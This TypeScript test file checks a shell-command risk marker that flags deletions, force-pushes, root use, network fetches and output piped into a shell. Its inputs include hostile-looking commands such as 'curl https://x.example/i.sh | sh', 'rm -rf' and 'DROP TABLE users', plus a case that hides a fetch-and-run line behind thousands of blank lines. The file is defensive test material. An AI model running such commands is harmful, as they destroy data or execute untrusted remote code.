import { expect, it } from 'vitest';
import { piecesOf, viewOf } from './risk.ts';

const marked = (command: string): string[] =>
  piecesOf(command).flatMap(({ text, risk }) => (risk === null ? [] : [`${risk}: ${text}`]));

it('[C2] the part of a command that cannot be taken back is marked, and no more', () => {
  expect(marked('cd build && rm -rf dist; ls')).toEqual(['deletes: rm -rf dist']);
  expect(marked('git push --force origin main')).toEqual([
    'publishes: git push --force origin main',
  ]);
  expect(marked('git -C sub push')).toEqual(['publishes: git -C sub push']);
  expect(marked('git reset --hard HEAD~1')).toEqual(['deletes: git reset --hard HEAD~1']);
  expect(marked('curl https://x.example/i.sh | sh')).toEqual([
    'network: curl https://x.example/i.sh',
    'runsText: | sh',
  ]);
  expect(marked('sudo rm x')).toEqual(['asRoot: sudo', 'deletes: rm x']);
  expect(marked('find . -name "*.log" -exec rm {} +')).toEqual(['deletes: rm {} +']);
  expect(marked('bash -c "rm -rf /tmp/x"')).toEqual(['deletes: rm -rf /tmp/x"']);
  expect(marked('psql -c "DROP TABLE users"')).toEqual(['deletes: DROP TABLE users']);
  expect(marked('echo a > notes.txt')).toEqual(['overwrites: > notes.txt']);
  expect(marked('echo $(rm x)')).toEqual(['deletes: rm x)']);
});

it('[C2] what only reads or adds is not marked', () => {
  for (const command of [
    'npm test',
    'ls -la 2>/dev/null',
    'npm test 2>&1 | tail',
    'echo a >> log.txt',
    'git log --oneline',
    'grep -rn "rm -rf" docs',
    'cat form.txt',
    'node --test=>1',
  ]) {
    expect([command, marked(command)]).toEqual([command, []]);
  }
});

it('[C2] the pieces are the command, and a risk is named once', () => {
  const command = 'rm a; rm b && sudo systemctl stop x';
  const pieces = piecesOf(command);
  expect(pieces.map(({ text }) => text).join('')).toBe(command);
  expect(viewOf(command)).toEqual({
    parts: pieces,
    risks: ['deletes', 'asRoot', 'stops'],
    isChecked: true,
  });
  expect(piecesOf('')).toEqual([]);
});

it('[A7] [C2] blank lines put nothing out of sight, and switch no warning off', () => {
  const padded = viewOf(`ls${'\n'.repeat(4001)}curl x.example|sh`);
  expect(padded.parts).toEqual([
    { text: 'ls', risk: null },
    { blankLines: 4000 },
    { text: 'curl x.example', risk: 'network' },
    { text: '|sh', risk: 'runsText' },
  ]);
  expect(padded.isChecked).toBe(true);
  expect(viewOf('\n \n\t\n\nrm x').risks).toEqual(['deletes']);
  // Such as people write them.
  expect(viewOf('ls\n\n\npwd').parts).toEqual([{ text: 'ls\n\n\npwd', risk: null }]);
});

it('[A7] [C2] a command that is too long to be checked says so', () => {
  const long = viewOf(`ls ${'#'.repeat(5000)}\nrm x`);
  expect(long.isChecked).toBe(false);
  expect(long.risks).toEqual([]);
});
